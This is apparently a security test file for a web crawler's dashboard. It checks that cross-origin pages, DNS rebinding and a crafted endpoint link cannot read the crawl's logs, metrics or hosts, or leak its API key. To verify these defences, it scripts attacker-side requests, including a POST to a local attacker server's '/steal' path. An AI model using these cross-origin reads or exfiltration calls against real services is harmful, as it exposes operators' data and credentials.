// The dashboard and its API against a hostile web, in real Chromium, with the built bin's
// `mocra crawl --dashboard` as the target:
//   - a page of another origin (a second local server on another port) cannot read the logs,
//     the metrics or the hosts of the crawl; with that origin in MOCRA_API__CORS_ORIGINS it can;
//   - a name that resolves to 127.0.0.1 (DNS rebinding, played by --host-resolver-rules) is
//     refused by the API, even for a page of that very origin;
//   - a link to the dashboard with `?endpoint=http://attacker` sends nothing to the attacker —
//     no key, no request at all — and only a person's confirmation leaves for the other server,
//     with no key; the page cannot talk to another origin even if it tried (CSP).
// The attacker's server records every request it receives.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type FixtureSite, startFixtureSite } from '@mocra/testkit';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type BinRun, hasChromium, killAll, launchChromium, startBin } from './cli-bin.js';

declare const document: { querySelector(selector: string): { textContent: string | null } | null };
declare const window: { fetch: typeof fetch };

const KEY = 'origin-test-key-5678';
const REBOUND = 'rebound.mocra-test';

interface Received {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

let site: FixtureSite;
let browser: Browser | undefined;
let attacker: http.Server;
let attackerOrigin = '';
const received: Received[] = [];

/** The attacker's page: it tries to read the crawl's API from its own origin. */
const ATTACK_PAGE = '<!doctype html><title>attacker</title><p>hello</p>';

beforeAll(async () => {
  site = await startFixtureSite();
  site.setLatency(20, 10);
  attacker = http.createServer((req, res) => {
    let body = '';
    req.on('data', (b: Buffer) => {
      body += b.toString();
    });
    req.on('end', () => {
      received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      res.writeHead(200, { 'content-type': 'text/html' }).end(ATTACK_PAGE);
    });
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  if (hasChromium) browser = await launchChromium([`--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`]);
});

afterAll(async () => {
  killAll();
  await browser?.close();
  await new Promise<void>((resolve) => attacker.close(() => resolve()));
  await site.close();
});

/** `mocra crawl --dashboard 0` on a crawl that lasts, once it has crawled a few pages. */
async function crawlWithDashboard(
  env: Record<string, string> = {},
): Promise<{ url: string; child: BinRun['child'] }> {
  const run = startBin(
    [
      'crawl',
      site.graphUrl({ pages: 100_000, fanout: 4, bytes: 256 }),
      '--no-robots',
      '-c',
      '2',
      '--dashboard',
      '0',
      '--api-key',
      KEY,
      '--no-progress',
    ],
    env,
  );
  const url = (await run.line(/dashboard at (http:\/\/127\.0\.0\.1:\d+)/))[1]!;
  // Some pages crawled, so the logs and hosts have something to leak.
  for (let i = 0; i < 200; i++) {
    const v = (await (await fetch(`${url}/observability/engine`)).json()) as { totals: { pages: number } };
    if (v.totals.pages > 5) return { url, child: run.child };
    await sleep(50);
  }
  throw new Error(`the crawl did not start:\n${run.stderr()}`);
}

/** From a page at `origin`, try to read each API path of `api`; what the page could read. */
async function readFrom(origin: string, api: string, paths: readonly string[]) {
  const context = await browser!.newContext();
  const page = await context.newPage();
  await page.goto(`${origin}/`);
  const results = await page.evaluate(
    async ({ api, paths }) => {
      const out: Record<string, string> = {};
      for (const p of paths) {
        try {
          const res = await window.fetch(api + p);
          out[p] = `read ${res.status}: ${(await res.text()).slice(0, 200)}`;
        } catch (err) {
          out[p] = `blocked: ${String(err)}`;
        }
      }
      return out;
    },
    { api, paths },
  );
  await context.close();
  return results;
}

const READS = ['/observability/logs', '/metrics', '/observability/hosts'] as const;

describe.skipIf(!hasChromium)('a hostile web page', () => {
  test('another origin cannot read logs, metrics or hosts; a rebound name is refused; cors_origins opens it', async () => {
    const { url, child } = await crawlWithDashboard();
    const port = new URL(url).port;
    const fromAttacker = await readFrom(attackerOrigin, url, READS);
    for (const p of READS) expect(fromAttacker[p], p).toMatch(/^blocked: TypeError/);

    // DNS rebinding: the attacker's name now resolves to 127.0.0.1, so its page is
    // same-origin with the API — and the API refuses the name.
    const rebound = `http://${REBOUND}:${port}`;
    const fromRebound = await readFrom(rebound, rebound, READS);
    for (const p of READS) {
      expect(fromRebound[p], p).toMatch(/^read 421: /);
      expect(fromRebound[p], p).toContain('MOCRA_ERR_API_HOST_NOT_ALLOWED');
      expect(fromRebound[p], p).not.toContain('/graph/');
    }
    child.kill('SIGINT');

    // A dashboard meant to read the API from another origin is configured, not assumed.
    const open = await crawlWithDashboard({ MOCRA_API__CORS_ORIGINS: attackerOrigin });
    const fromAllowed = await readFrom(attackerOrigin, open.url, READS);
    expect(fromAllowed['/observability/logs']).toMatch(/^read 200: \{"records":\[/);
    expect(fromAllowed['/metrics']).toMatch(/^read 200: # HELP/);
    expect(fromAllowed['/observability/hosts']).toMatch(/^read 200: \{"hosts":\[\{"host":"127\.0\.0\.1:/);
    open.child.kill('SIGINT');
  }, 120_000);

  test('a link with ?endpoint=http://attacker sends the attacker nothing; a confirmed switch carries no key', async () => {
    const { url, child } = await crawlWithDashboard();
    const context = await browser!.newContext();
    const page = await context.newPage();
    const errors: string[] = [];
    page.on('pageerror', (err) => errors.push(String(err)));
    // The person has used the key in this tab (it is in the tab's sessionStorage).
    await page.goto(`${url}/`);
    await page.click('[data-testid=key-button]');
    await page.fill('[data-testid=key-input]', KEY);
    await page.click('[data-testid=key-ok]');
    await expect.poll(() => page.textContent('[data-testid=key-button]')).toContain('✓');
    received.length = 0;

    // A hostile page navigates the dashboard's tab to a link naming the attacker.
    await page.goto(`${url}/?endpoint=${encodeURIComponent(attackerOrigin)}&interval=1000`);
    await page.waitForSelector('[data-testid=switch-dialog]', { state: 'visible', timeout: 10_000 });
    expect(await page.textContent('[data-testid=switch-dialog]')).toContain(`${attackerOrigin}/`);
    // The dashboard goes on polling its own server meanwhile; the attacker hears nothing.
    const before = Number(
      ((await (await fetch(`${url}/observability/engine`)).json()) as { totals: { pages: number } }).totals
        .pages,
    );
    await page.waitForFunction(
      (n) =>
        Number(
          (document.querySelector('[data-testid=pages-total]')?.textContent ?? '').replace(/[^0-9.]/g, ''),
        ) > n,
      before,
      { timeout: 15_000 },
    );
    expect(page.url()).not.toContain('endpoint=');
    expect(received).toEqual([]);
    await page.click('[data-testid=switch-cancel]');
    expect(new URL(page.url()).origin).toBe(url);

    // Even a script running in the page could not talk to another origin (CSP connect-src 'self').
    const direct = await page.evaluate(async (target) => {
      try {
        await window.fetch(`${target}/steal`, { method: 'POST', body: 'x' });
        return 'sent';
      } catch (err) {
        return `blocked: ${String(err)}`;
      }
    }, attackerOrigin);
    expect(direct).toMatch(/^blocked/);
    expect(received).toEqual([]);

    // A cancel's 'close' event comes in a task of its own: an address typed in the meantime
    // stays in the field (and asks again), it is not put back to this server's.
    await page.fill('[data-testid=endpoint]', `${attackerOrigin}/elsewhere`);
    await page.press('[data-testid=endpoint]', 'Enter');
    await page.waitForSelector('[data-testid=switch-dialog]', { state: 'visible', timeout: 10_000 });
    await page.evaluate((typed) => {
      (document.querySelector('[data-testid=switch-cancel]') as unknown as { click(): void }).click();
      (document.querySelector('[data-testid=endpoint]') as unknown as { value: string }).value = typed;
    }, attackerOrigin);
    await page.waitForSelector('[data-testid=switch-dialog]', { state: 'hidden', timeout: 10_000 });
    await page.waitForTimeout(50); // the close event's task has run
    expect(await page.inputValue('[data-testid=endpoint]')).toBe(attackerOrigin);

    // A person who confirms leaves for the other server's own dashboard — without the key.
    await page.fill('[data-testid=endpoint]', attackerOrigin);
    await page.press('[data-testid=endpoint]', 'Enter');
    await page.click('[data-testid=switch-ok]');
    await page.waitForURL(`${attackerOrigin}/`);
    expect(received[0]).toMatchObject({ method: 'GET', url: '/' });
    expect(received.every((r) => r.method === 'GET' && r.body === '')).toBe(true);
    const everything = JSON.stringify(received);
    expect(everything).not.toContain(KEY);
    expect(everything.toLowerCase()).not.toContain('bearer');
    expect(received[0]!.headers.referer).toBeUndefined(); // the dashboard's address stays private too
    for (const r of received) expect(r.headers.authorization).toBeUndefined();
    expect(errors).toEqual([]);
    await context.close();
    child.kill('SIGINT');
  }, 120_000);
});
